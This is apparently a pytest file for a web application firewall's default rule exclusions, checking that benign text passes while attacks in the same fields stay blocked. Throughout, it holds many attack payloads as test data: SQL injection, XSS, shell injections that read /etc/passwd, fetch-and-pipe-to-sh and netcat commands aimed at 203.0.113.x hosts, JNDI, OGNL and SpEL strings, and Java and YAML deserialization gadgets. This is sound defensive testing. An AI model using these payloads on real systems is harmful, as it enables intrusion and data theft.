"""gatehouse's default CRS exclusions for free-text fields (waf/crs_defaults.c
D8-D10, tests/waf/default-exclusions.md): prose about SQL, commands and HTML
in fields named like `message` or `comment` passes; an injection in the same
field that breaks out of a quote, substitutes a command or carries script is
still refused, by the default rules standing in for the CRS's there
(90032-90035); `exclude` of a CRS rule removes its stand-in too; `defaults
off` gives the CRS's verdicts back."""

import json
from urllib.parse import quote, urlencode

import pytest

import ghutil
from test_waf import CRS, FORM, JSON, send, start, untouched

pytestmark = pytest.mark.skipif(ghutil.IMPL == "haproxy",
                                reason="waf sections are not translated to HAProxy")

PROSE = ("We'd like a quote for 50 seats; our IT team said the 'select' plan from "
         "your site might fit. Drop me a line, or call: /etc/hosts was fine.")
SQLI = "1' OR '1'='1' -- "            # refused by libinjection (942100) alone in the CRS


def form(**kv):
    return urlencode(kv).encode()


def blocked_by(g, rule):
    return any("waf crs blocked" in l and rule in l for l in g.stderr_text().splitlines())


def test_prose_passes_injection_in_the_same_field_does_not(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    assert send(port, "POST", "/contact", FORM, form(name="Zoe", message=PROSE)).status == 200
    assert send(port, "POST", "/api/notes", JSON,
                b'{"note": {"body": "<p>Hi <img src=\\"/a.png\\"> <!-- x --></p>"}}').status == 200
    hits = origin.stats.heads
    for body, rule in (
            (form(message=SQLI), "90032"),
            (form(comment="'; cat /etc/passwd; '"), "90034"),
            (form(review_text="<p>ok</p><object data=//evil.example/x></object>"), "90033"),
            (form(description="see /proc/self/environ"), "90035")):
        r = send(port, "POST", "/contact", FORM, body)
        assert r.status == 403, body
    assert origin.stats.heads == hits
    for rule in ("90032", "90033", "90034", "90035"):
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    # the same prose in a field that is not free text: the CRS as shipped
    assert send(port, "POST", "/contact", FORM, form(code=PROSE)).status == 403


def test_exclude_removes_the_stand_in(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="exclude 942100")
    assert send(port, "POST", "/contact", FORM, form(message=SQLI)).status == 200


def test_defaults_off_is_the_crs_as_shipped(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    assert send(port, "POST", "/contact", FORM, form(message=PROSE)).status == 403
    assert untouched(origin)


# D12-D14 and the code-fence exception of 90034 (tests/waf/default-exclusions.md,
# "Second round"); each test sends the benign shape the default clears and the
# attacks in the same place it promises to keep refusing.

VND_JSON = [("Content-Type", "application/vnd.api+json")]
RETURN_URL = "/login?returnUrl=" + "%2Faccount%2Forders%3Fpage%3D2%26sort%3Ddesc%26type%3Dall"


def test_json_under_a_structured_suffix_is_parsed_as_json(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    ok = b'{"data": {"type": "articles", "attributes": {"title": "Hello"}}}'
    assert send(port, "POST", "/api/articles", VND_JSON, ok).status == 200
    assert send(port, "PATCH", "/api/users/1", [("Content-Type", "application/merge-patch+json")],
                b'{"name": "Zoe"}').status == 200
    hits = origin.stats.heads
    # parsed as JSON: the SQLi inside an attribute is seen
    r = send(port, "POST", "/api/articles", VND_JSON,
             b'{"data": {"id": "1\' UNION SELECT password FROM users--"}}')
    assert r.status == 403
    assert blocked_by(g, "942100"), g.stderr_tail()
    # a body that is not JSON under a +json type fails the JSON parser
    r = send(port, "POST", "/api/articles", VND_JSON, b"name=x' or '1'='1")
    assert r.status == 403
    assert origin.stats.heads == hits


def test_url_parameters_keep_their_query(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    assert send(port, "GET", RETURN_URL).status == 200
    assert send(port, "GET", "/oauth2/authorize?client_id=a&redirect_uri="
                "https%3A%2F%2Fapp.example.com%2Fcb%3Fstart%3D1%26find%3Dx").status == 200
    hits = origin.stats.heads
    for target, headers, body in (
            ("/login?next=" + quote("/x;cat /etc/hostname"), (), b""),
            ("/login?returnUrl=" + quote("/x|id"), (), b""),
            ("/go?target=" + quote("https://a.example/`id`"), (), b""),
            ("/oauth2/authorize?redirect_uri=" + quote("https://a.example/cb&&id"), (), b""),
            ("/api/webhooks", JSON, b'{"callback_url": "https://a.example/$(id)"}')):
        r = send(port, "POST" if body else "GET", target, headers, body)
        assert r.status == 403, target
    assert origin.stats.heads == hits
    assert blocked_by(g, "90036"), g.stderr_tail()


def test_exclude_of_a_command_rule_removes_the_url_stand_in(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="exclude 932100-932160")
    assert send(port, "GET", "/go?target=" + quote("https://a.example/`id`")).status == 200


def test_wider_free_text_family(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    for body in (
            b'{"comentario": "N\xc3\xa3o consegui selecionar o tamanho, o bot\xc3\xa3o \'Select\' fica cinza. Uso o app ou o site."}',
            b'{"posts": [{"html": "<p>Spring <strong>menu</strong></p><figure><img src=\\"/r.jpg\\"></figure>"}]}',
            b'{"lines": [{"msg": "14 rue de l\'Union, 75011 Paris"}]}',
            b'{"headline": "Data engineer | Python, SQL, Spark"}',
            b'{"body_markdown": "Use csv:\\n\\n```python\\nwith open(\'d.csv\') as f:\\n    print(f.read())\\n```"}'):
        assert send(port, "POST", "/api/x", JSON, body).status == 200, body
    hits = origin.stats.heads
    for body, rule in (
            (b'{"nachricht": "x\' OR \'1\'=\'1\' -- "}', "90032"),
            (b'{"body_html": "<p>hi</p><script>alert(1)</script>"}', "941110"),
            (b'{"markdown": "![x](y) <img src=x onerror=alert(1)>"}', "941120"),
            (b'{"msg": "\'; cat /etc/passwd; \'"}', "90034")):
        assert send(port, "POST", "/api/x", JSON, body).status == 403, body
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    assert origin.stats.heads == hits


def test_markdown_code_fence_is_not_a_backtick_break_out(gatehouse, origin, port):
    start(gatehouse, port, origin)
    fenced = form(content="First install rsync:\n\n```\nsudo apt install rsync\n"
                          "rsync -av /home/pi/ /mnt/backup/\n```\n\nThen add it to cron.")
    assert send(port, "POST", "/admin/posts", FORM, fenced).status == 200
    hits = origin.stats.heads
    for text in ("```id```", "intro\n`id`", "`id`"):
        assert send(port, "POST", "/admin/posts", FORM, form(content=text)).status == 403, text
    assert origin.stats.heads == hits


def test_defaults_off_refuses_the_new_shapes(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    assert send(port, "POST", "/api/articles", VND_JSON, b'{"data": {}}').status == 403
    assert send(port, "GET", RETURN_URL).status == 403
    assert untouched(origin)


# D15 (GraphQL documents: 942190 -> 90037) and D16 (code-sharing fields: the
# free-text treatment, 90038-90041), tests/waf/default-exclusions.md, "Third
# round".

GQL_USER = json.dumps({"query": "query($login: String!) { user(login: $login) { name bio "
                                "followers { totalCount } } }",
                       "variables": {"login": "octocat"}}).encode()
GQL_CREATE = json.dumps({"query": "mutation M($in: UserInput!) { createUser(input: $in) { id } "
                                  "updateUser(id: 4, name: \"Zoe\") { id } }"}).encode()


def test_graphql_fields_named_like_sql_functions(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    assert send(port, "POST", "/api/graphql", JSON, GQL_USER).status == 200
    assert send(port, "POST", "/graphql", JSON, GQL_CREATE).status == 200
    assert send(port, "GET", "/graphql?query=" + quote("{ user(id: 4) { name } }")).status == 200
    hits = origin.stats.heads
    # 942190's own shape in a literal of the document: 90037 refuses it alone
    r = send(port, "POST", "/graphql", JSON,
             json.dumps({"query": '{ user(id: "1 union select current_user()") { name } }'}).encode())
    assert r.status == 403
    assert blocked_by(g, "90037"), g.stderr_tail()
    # the variables are not the document: 942190 still reads them
    r = send(port, "POST", "/graphql", JSON, json.dumps({
        "query": "query U($l: String!) { user(login: $l) { id } }",
        "variables": {"l": "x' union select password from users-- "}}).encode())
    assert r.status == 403
    assert blocked_by(g, "942190"), g.stderr_tail()
    # a `query` argument elsewhere than a GraphQL path: the CRS as shipped
    assert send(port, "POST", "/api/search", JSON, GQL_USER).status == 403
    assert origin.stats.heads == hits


def test_exclude_942190_removes_the_graphql_stand_in(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="exclude 942190")
    r = send(port, "POST", "/graphql", JSON,
             json.dumps({"query": '{ user(id: "1 union select current_user()") { name } }'}).encode())
    assert r.status == 200


SNIPPETS = [
    {"language": "bash", "code": "#!/bin/sh\nset -e\ncd /var/www/app && git pull && npm ci"},
    {"language": "html", "code": "<div class=\"card\"><img src=\"/img/a.png\" alt=\"A\"><p>Hi</p></div>"},
    {"language": "sql", "code": "SELECT date(created_at) AS day, count(*) FROM orders "
                                "GROUP BY 1 ORDER BY 1 DESC;"},
]


def test_code_in_a_code_sharing_resource(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    for path in ("/api/v1/snippets", "/gists/9f1c", "/pastes/"):
        for s in SNIPPETS:
            assert send(port, "POST", path, JSON, json.dumps(s).encode()).status == 200, (path, s)
    assert send(port, "POST", "/snippets/new", FORM,
                form(title="t", code="SELECT id FROM orders WHERE total > 10;")).status == 200
    hits = origin.stats.heads
    for code, rule in (
            ("x' or '1'='1", "90038"),
            ("<p>ok</p><object data=//evil.example/x></object>", "90039"),
            ("$(curl -s http://203.0.113.9/x|sh)", "90040"),
            ("hello; cat /etc/passwd", "90041")):
        r = send(port, "POST", "/api/v1/snippets", JSON, json.dumps({"code": code}).encode())
        assert r.status == 403, code
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    # `code` anywhere else (a coupon, an OAuth code) and paths that only
    # look like a snippet store: every rule reads it
    for path in ("/api/v1/coupons/apply", "/api/v1/coupons/apply;/snippets",
                 "/api/v1/snippets/x/run"):
        r = send(port, "POST", path, JSON, json.dumps(SNIPPETS[0]).encode())
        assert r.status == 403, path
    assert origin.stats.heads == hits


def test_defaults_off_refuses_graphql_and_snippets(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    assert send(port, "POST", "/api/graphql", JSON, GQL_USER).status == 403
    assert send(port, "POST", "/api/v1/snippets", JSON, json.dumps(SNIPPETS[2]).encode()).status == 403
    assert untouched(origin)


# D17 (OData's $select), D18 (embed fields) and D19 (exact-phrase searches),
# tests/waf/default-exclusions.md, "Fourth round".

def test_odata_select_option_name(gatehouse, origin, port):
    start(gatehouse, port, origin)
    assert send(port, "GET", "/odata/Products?$filter=Price%20lt%2050&$orderby=Name"
                "&$top=20&$select=Name,Price").status == 200
    hits = origin.stats.heads
    # the value of $select is read by every rule; a name that only starts
    # with $select is not the exempt name
    for target in ("/odata/Products?$select=Name%27%20union%20select%20password%20from%20users--",
                   "/odata/Products?%24select%20union%20select%20password=1"):
        assert send(port, "GET", target).status == 403, target
    assert origin.stats.heads == hits


def test_embed_field_is_html_by_purpose(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    video = ('<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/x" '
             'title="YouTube video player" frameborder="0" allowfullscreen></iframe>')
    assert send(port, "POST", "/api/v1/pages/17/blocks", JSON,
                json.dumps({"type": "video", "settings": {"embed": video}}).encode()).status == 200
    hits = origin.stats.heads
    for embed, rule in (('<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>', "90033"),
                        ("<script src=https://203.0.113.5/x.js></script>", "941110")):
        r = send(port, "POST", "/api/v1/pages/17/blocks", JSON,
                 json.dumps({"settings": {"embed": embed}}).encode())
        assert r.status == 403, embed
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    assert origin.stats.heads == hits


def test_exact_phrase_search(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    for q in ('"select comfort" mattress topper', '"union square" hotels'):
        assert send(port, "GET", "/search?" + urlencode({"q": q})).status == 200, q
    assert send(port, "POST", "/api/search", JSON,
                json.dumps({"q": '"select few" vinyl'}).encode()).status == 200
    hits = origin.stats.heads
    for q, rule in (("1 union select null,version()", "90042"),
                    ("x' union select password from users--", "90048"),    # D29: 942100's
                    ("1 or 1=1", "90048")):                                  # stand-in here
        assert send(port, "GET", "/search?" + urlencode({"keywords": q})).status == 403, q
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    # the same phrase in a parameter that is not a search box: the CRS as shipped
    assert send(port, "GET", "/items?" + urlencode({"sku": '"select comfort"'})).status == 403
    assert origin.stats.heads == hits


# D20-D23: CRS rules as the CRS later fixed them, and ModSecurity 2's
# start-of-value anchor (tests/waf/default-exclusions.md, "Fifth round").
# Each benign shape is refused by CRS 3.3.4 PL1 as shipped (the last test)
# and, but for the markdown table (90034, D10's own rule), sits in a field
# outside the free-text family.

WIKI = "== Week one ==\nIntro and setup.\n\n== Week two ==\nVersion control."
VTT = "WEBVTT\n\n00:00:01.000 --> 00:00:03.500\nWhere is the station?\n"
BEACON = "/matomo.php?idsite=3&rec=1&" + urlencode({"action_name": 'Search results for "union jack cushion"'})
STEPS = "1. Open settings\n2. Select 'Notifications'\n3. Turn off e-mail"
TABLE = "Prices below.\n\n| size | price |\n|---|---|\n| S | 9 |"


SHAPES = {   # default: (method, target, headers, body)
    "D20 wiki heading": ("POST", "/wiki/edit", FORM, form(wpTextbox1=WIKI)),
    "D21 subtitles": ("POST", "/api/captions", JSON, json.dumps({"vtt": VTT}).encode()),
    "D22 quoted page title": ("GET", BEACON, (), b""),
    "D23 numbered steps": ("POST", "/support/tickets", FORM, form(steps=STEPS)),
    "D23 markdown table": ("POST", "/api/posts", JSON, json.dumps({"content": TABLE}).encode()),
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_shape_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = SHAPES[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_crs_fixed_rules_keep_refusing(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    # wpTextbox1 is free text since D37: 90044 and 90045 do not read it
    # (90033 and 90032 do), so those two are sent in another wiki field
    for body, rule in ((form(wpTextbox1='" autofocus onfocus=alert(1) x="'), "90043"),
                       (form(wpSection="<!--<img src=x>"), "90044"),
                       (form(wpSection="x\" union all select password from users-- "), "90045"),
                       (form(wpTextbox1="(system)('id')"), "90047")):     # D28
        assert send(port, "POST", "/wiki/edit", FORM, body).status == 403, body
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    assert untouched(origin)


def test_value_starts_still_count(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    # the start of the value still counts, and a backtick at any line start
    for body, rule in ((form(steps="1; select password from users"), "90046"),
                       (form(content="| nc 203.0.113.5 4444"), "90034"),
                       (form(content="intro\n`id`"), "90034")):
        assert send(port, "POST", "/api/posts", FORM, body).status == 403, body
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    assert untouched(origin)


def test_defaults_off_refuses_line_starts_and_crs_fixed_shapes(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    for shape, (method, target, headers, body) in sorted(SHAPES.items()):
        if shape == "D23 markdown table":
            continue        # 90034 is gatehouse's own: the CRS passes the table
        assert send(port, method, target, headers, body).status == 403, shape
    assert untouched(origin)


# D25-D30 (tests/waf/default-exclusions.md, "Sixth round"): mechanisms behind
# holdout7's false positives and the ones left on the other sets.  Each
# shape is refused by the D1-D23 build (and by CRS 3.3.4 PL1 as shipped,
# but for the table, whose rule 90034 is gatehouse's own, and the quoted
# 'and', whose rule 90032 is too).

SHAPES6 = {
    "D25 quoted word": ("POST", "/v1/t", JSON, json.dumps(
        {"properties": {"name": "Men's Trail Runner 'Select' Edition"}}).encode()),
    "D25 quoted and in free text": ("POST", "/hooks/jira", JSON, json.dumps(
        {"issue": {"summary": "Search drops results when query contains 'and'"}}).encode()),
    "D26 tus chunk": ("PATCH", "/files/24e533e0", [("Content-Type", "application/offset+octet-stream"),
                                                   ("Tus-Resumable", "1.0.0")], b"RIFF$\0\0\0WAVEfmt "),
    "D27 table opening a value": ("POST", "/api/wiki", JSON, json.dumps(
        {"content": "| Week | Primary |\n|---|---|\n| 49 | ana |"}).encode()),
    "D28 markdown link": ("POST", "/api/blog/drafts", JSON, json.dumps(
        {"body_md": "See [the scheduler docs](https://docs.example.com/scheduler) - TL;DR"}).encode()),
    "D29 boolean search": ("GET", "/jobs?" + urlencode({"q": "(python OR golang) AND remote NOT senior"}),
                           (), b""),
    "D30 stack trace": ("POST", "/api/client-errors", JSON, json.dumps(
        {"stack": "TypeError: x\n    at Object.<anonymous> (/srv/app.js:1:9981)"}).encode()),
}


@pytest.mark.parametrize("shape", sorted(SHAPES6))
def test_round6_shape_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = SHAPES6[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_defaults_off_refuses_round6_shapes(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    for shape, (method, target, headers, body) in sorted(SHAPES6.items()):
        if shape in ("D27 table opening a value", "D25 quoted and in free text"):
            continue        # 90034 and 90032 are gatehouse's own: the CRS passes these
        assert send(port, method, target, headers, body).status == 403, shape
    assert untouched(origin)


def test_round6_stand_ins_keep_refusing(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    for target, body, rule in (
            ("/api/orders", form(region="x 'having' yes"), "90045"),   # a truthy tail
            ("/contact", form(message="hello 'or' 1=1"), "90032"),
            ("/api/posts", form(content="| id"), "90034"),
            ("/p", form(x="['system'][0]('id');"), "90047"),
            ("/p", form(x="(sy.(st).em)('id')"), "90047"),
            ("/p", form(x="cat <(wget -qO- http://203.0.113.9/s)"), "90050"),
            ("/p", form(x="a$(id)"), "90049"),
            # the chain reads every value the first link took (MATCHED_VARS)
            ("/contact", form(subject="it' or not", message="x' or 1=1-- -"), "90032")):
        assert send(port, "POST", target, FORM, body).status == 403, body
        assert blocked_by(g, rule), (rule, body, g.stderr_tail())
    assert untouched(origin)


def test_exclude_removes_the_round6_stand_ins(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="exclude 933210\n    exclude 932130")
    assert send(port, "POST", "/p", FORM, form(x="['system'][0]('id');")).status == 200
    assert send(port, "POST", "/p", FORM, form(x="8.8.8.8 <(id)")).status == 200


# D31-D32 (tests/waf/default-exclusions.md, "Seventh round"): mechanisms
# behind holdout9's false positives outside `code`.  Each shape is refused
# by the D1-D30 build and by CRS 3.3.4 PL1 as shipped.

TRACE = ("java.lang.NullPointerException: Attempt to invoke virtual method "
         "'java.lang.String com.shop.model.Cart.getId()' on a null object reference\n"
         "\tat java.lang.reflect.Method.invoke(Method.java:498)\n"
         "\tat com.shop.ui.CartFragment.onResume(CartFragment.java:118)")

SHAPES7 = {
    "D31 stack trace in a ticket": ("POST", "/api/support/tickets", JSON, json.dumps(
        {"subject": "App crash", "body": TRACE}).encode()),
    "D32 content-encoding identity": ("POST", "/api/mobile/v3/analytics/batch",
                                      JSON + [("Content-Encoding", "identity")],
                                      b'{"batch":[{"event":"tap","ts":1701874415}]}'),
}


@pytest.mark.parametrize("shape", sorted(SHAPES7))
def test_round7_shape_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = SHAPES7[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_defaults_off_refuses_round7_shapes(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    for shape, (method, target, headers, body) in sorted(SHAPES7.items()):
        assert send(port, method, target, headers, body).status == 403, shape
    assert untouched(origin)


def test_round7_stand_ins_keep_refusing(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    for body in (
            {"message": "%{(#o=new java.io.FileOutputStream('/var/www/s.jsp'))}"},    # OGNL
            {"comment": "#{T(java.lang.System).getenv()}"},                          # SpEL
            {"content": '<object class="java.io.FileWriter"><string>/x</string></object>'},
            {"text": '{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"}'},
            {"description": "java.lang.System.exit(0)"},                            # a call
            {"message": '["org.apache.commons.configuration.JNDIConfiguration", {}]'}):  # typed array
        assert send(port, "POST", "/api/notes", JSON, json.dumps(body).encode()).status == 403, body
        assert blocked_by(g, "90051"), (body, g.stderr_tail())
    # outside free-text fields 944130 reads as shipped
    assert send(port, "POST", "/api/export", JSON, json.dumps({"format": TRACE}).encode()).status == 403
    assert blocked_by(g, "944130")
    # a coding other than identity, a list, a second header, another restricted header
    batch = b'{"q":"1"}'
    for extra in ([("Content-Encoding", "gzip")], [("Content-Encoding", "identity, gzip")],
                  [("Content-Encoding", "identity"), ("Content-Encoding", "gzip")],
                  [("Content-Encoding", "identity"), ("Proxy", "http://203.0.113.9:8080")]):
        assert send(port, "POST", "/api/batch", JSON + extra, batch).status in (400, 403), extra
    assert untouched(origin)


def test_exclude_944130_removes_the_java_stand_in(gatehouse, origin, port):
    body = json.dumps({"message": '["org.apache.commons.configuration.JNDIConfiguration", {}]'}).encode()
    start(gatehouse, port, origin, waf="exclude 944130")
    assert send(port, "POST", "/api/notes", JSON, body).status == 200


# D33-D34 (tests/waf/default-exclusions.md, "Eighth round"): a text/plain
# body that is not JSON and the Prometheus text format's media type.  The
# D1-D32 build refuses both shapes (200002: the body was parsed as JSON;
# 920470: the `version` parameter), CRS 3.3.4 PL1 as shipped too (920420).

TEXT = [("Content-Type", "text/plain")]
PROM = [("Content-Type", "text/plain; version=0.0.4")]

SHAPES8 = {
    "D33 plain text lines": ("POST", "/api/builds/4512/log", TEXT,
                             b"build 4512 finished in 3m12s on runner-7\n"
                             b"artifacts: 3 files, 12 MB; cache hit 87 of 90\n"),
    "D34 prometheus exposition": ("POST", "/api/v1/import/prometheus", PROM,
                                  b'http_requests_total{method="GET",code="200"} 1027 1796645000000\n'
                                  b'node_load1{instance="web-1"} 0.42\n'),
}


@pytest.mark.parametrize("shape", sorted(SHAPES8))
def test_round8_shape_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = SHAPES8[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_defaults_off_refuses_round8_shapes(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    for shape, (method, target, headers, body) in sorted(SHAPES8.items()):
        assert send(port, method, target, headers, body).status == 403, shape
    assert untouched(origin)


def test_round8_text_bodies_are_still_read(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    # not JSON: read as URL-encoded text, so the attack rules see it
    for body, rule in ((b"user=1' UNION SELECT username, password FROM users-- -", "942"),
                       (b"note <script>alert(document.cookie)</script>", "941"),
                       (b"host=example.com; cat /etc/passwd", "932"),
                       (b'up{job="x\' UNION SELECT password FROM users-- -"} 1\n', "942")):
        for headers in (TEXT, PROM):
            assert send(port, "POST", "/ingest/raw", headers, body).status == 403, (headers, body)
        assert any("waf crs blocked" in l and rule in l
                   for l in g.stderr_text().splitlines()), (rule, g.stderr_tail())
    # opens like JSON: parsed as JSON, and refused when it does not parse
    for body in (b'  {"q": "x"', b'["a", }'):
        assert send(port, "POST", "/ingest/raw", TEXT, body).status in (400, 403), body
        assert "200002" in g.stderr_text().splitlines()[-1], g.stderr_tail()
    # JSON inside a text/plain body is still read as JSON
    assert send(port, "POST", "/ingest/raw", TEXT,
                b'{"q": "1\' UNION SELECT password FROM users-- -"}').status == 403
    # the media type: another parameter, a value that is not a version, a second header
    metric = b"node_load1 0.42\n"
    for headers in ([("Content-Type", "text/plain; version=0.0.4; x=%{#a}")],
                    [("Content-Type", "text/plain; version=${jndi:ldap://203.0.113.9/a}")],
                    [("Content-Type", "text/plain; version=0.0.4"), ("Content-Type", "text/x=<a")]):
        assert send(port, "POST", "/api/v1/import/prometheus", headers, metric).status in (400, 403), headers
    assert untouched(origin)


# D35 ("Eighth round"): NDJSON and CSV bodies, allowed by D2, are read by the
# rules (an NDJSON body as one JSON array of its lines, a CSV body as one
# string).  The D1-D34 build passes the injections below to the origin.

NDJSON = [("Content-Type", "application/x-ndjson")]
CSV = [("Content-Type", "text/csv")]


def test_ndjson_and_csv_bodies_are_read(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    # benign bodies of both kinds still pass
    assert send(port, "POST", "/api/events", NDJSON,
                b'{"event": "view", "page": "/home"}\n\n{"event": "tap", "id": 7}\n').status == 200
    assert send(port, "POST", "/api/v1/import", CSV,
                b"sku,name,price\nA-1,Tea towel,4.50\n").status == 200
    hits = origin.stats.heads
    for headers, body in (
            (NDJSON, b'{"q": "ok"}\n{"q": "1\' UNION SELECT username, password FROM users-- -"}\n'),
            (NDJSON, b'{"c": "<script>alert(document.cookie)</script>"}\n'),
            (CSV, b"name,q\nx,1' UNION SELECT username, password FROM users-- -\n")):
        assert send(port, "POST", "/api/events", headers, body).status == 403, body
    # a line that is not JSON fails the parser
    assert send(port, "POST", "/api/events", NDJSON, b'{"q": "ok"}\nnot json\n').status in (400, 403)
    assert "200002" in g.stderr_text().splitlines()[-1], g.stderr_tail()
    assert origin.stats.heads == hits


def test_rewritten_bodies_near_the_body_limit_pass(gatehouse, origin, port):
    # the default body_limit is 16 KiB: a CSV and a text body just under it,
    # with many newlines and quotes, grow past it once escaped for the JSON
    # parser (D33, D35); ModSecurity must not cut them into broken JSON
    start(gatehouse, port, origin)
    rows = b"".join(b'A-%d,"Mug, 12oz",9.99\n' % i for i in range(700))[:16000]
    assert len(rows) <= 16 * 1024
    assert send(port, "POST", "/api/v1/import", CSV, rows).status == 200
    lines = b"".join(b"worker %d done\n" % i for i in range(1200))[:16000]
    assert send(port, "POST", "/ingest/raw", TEXT, lines).status == 200


# D36-D38 (tests/waf/default-exclusions.md, "Ninth round"): mechanisms behind
# holdout11's false positives outside `code`.  The D1-D35 build refuses each
# shape (942140 on "northwind"; 932105/932110/932115 on a wiki edit; 920420
# on a YAML body), CRS 3.3.4 PL1 as shipped too.

YAML = [("Content-Type", "application/yaml")]
OPENAPI = (b"openapi: 3.0.3\ninfo:\n  title: Orders API\n  version: 1.4.0\npaths:\n"
           b"  /orders/{id}:\n    get:\n      parameters:\n        - name: id\n"
           b"          in: path\n          schema:\n            type: string\n"
           b"            pattern: '^ord_[A-Za-z0-9]{12}$'\n")
MEDIAWIKI = ("{{Infobox mountain\n| name = Mount Rainier\n}}\n'''Mount Rainier''' is a large "
        "[[stratovolcano]].<ref>{{cite web |url=https://www.usgs.gov/ |title=USGS}}</ref>\n"
        "It is {{convert|14411|ft|m}} high.")

SHAPES9 = {
    "D36 northwind in an e-mail address": ("POST", "/sign/envelopes", JSON, json.dumps(
        {"recipients": [{"email": "jsw@northwind.example", "role": "signer"}]}).encode()),
    "D37 camelCase free-text name": ("POST", "/hooks/esign", JSON, json.dumps(
        {"data": {"emailSubject": "Please sign: MSA -- Acme / Northwind"}}).encode()),
    "D37 MediaWiki edit": ("POST", "/w/index.php?title=Mount_Rainier&action=submit", FORM,
                           form(wpTextbox1=MEDIAWIKI,
                                wpSummary="/* Geography */ fix convert template; rm dup ref (see talk)")),
    "D38 OpenAPI YAML": ("POST", "/v1/specs", YAML, OPENAPI),
}


@pytest.mark.parametrize("shape", sorted(SHAPES9))
def test_round9_shape_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = SHAPES9[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_defaults_off_refuses_round9_shapes(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="defaults off")
    for shape, (method, target, headers, body) in sorted(SHAPES9.items()):
        assert send(port, method, target, headers, body).status == 403, shape
    assert untouched(origin)


def test_round9_stand_ins_keep_refusing(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    # northwind as a database reference (90055); the other names as before
    for q in ("table=northwind..sysobjects", "table=northwind.dbo.Customers",
              "t=%5BNorthwind%5D.%5Bdbo%5D.%5BOrders%5D", "db=information_schema"):
        assert send(port, "GET", "/reports/run?" + q).status == 403, q
    assert blocked_by(g, "90055"), g.stderr_tail()
    # a camelCase free-text name gets the free-text stand-ins
    for body, rule in (({"commitMessage": "fix' OR '1'='1' -- "}, "90032"),
                       ({"emailSubject": "<script>alert(1)</script>"}, "90033"),
                       ({"wpSummary": "; curl http://203.0.113.9/s | sh"}, "90034")):
        assert send(port, "POST", "/api/x", JSON, json.dumps(body).encode()).status == 403, body
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    # a camelCase name outside the family: every rule as before
    assert send(port, "POST", "/api/x", JSON, b'{"userId": "1\' OR \'1\'=\'1"}').status == 403
    # YAML bodies are read (one string), and language tags refused (90057)
    for headers, body in (
            (YAML, b"description: \"x' UNION SELECT username, password FROM users-- -\"\n"),
            ([("Content-Type", "text/x-yaml")], b"title: <script>alert(document.cookie)</script>\n"),
            ([("Content-Type", "application/openapi+yaml; charset=utf-8")], b"x: \"1' OR '1'='1\"\n")):
        assert send(port, "POST", "/v1/specs", headers, body).status == 403, body
    for body in (b'job: !!python/object/apply:os.system ["id"]\n',
                 b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader '
                 b'[[!!java.net.URL ["http://203.0.113.9/"]]]]\n',
                 b"--- !ruby/object:Gem::Requirement\nrequirements: []\n",
                 b"x: !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [[id]]\n"):
        assert send(port, "POST", "/v1/specs", YAML, body).status == 403, body
        assert blocked_by(g, "90057"), (body, g.stderr_tail())
    # YAML's own tags and application tags are no language object
    assert send(port, "POST", "/v1/specs", YAML,
                b"a: !!str 12\nb: !!binary aGk=\nRole: !GetAtt MyRole.Arn\nc: !Ref Bucket\n").status == 200
    assert send(port, "POST", "/api/export", JSON, b'{"format": "jsw@northwind.example"}').status == 200


def test_exclude_942140_removes_the_northwind_stand_in(gatehouse, origin, port):
    start(gatehouse, port, origin, waf="exclude 942140")
    assert send(port, "GET", "/reports/run?table=northwind..sysobjects").status == 200


# D39 ("Ninth round"): a text/plain body of several JSON documents a line
# (a Sentry envelope, a log beacon) is read as NDJSON.  The D1-D38 build
# refuses the envelope (200002: parsed as one document).

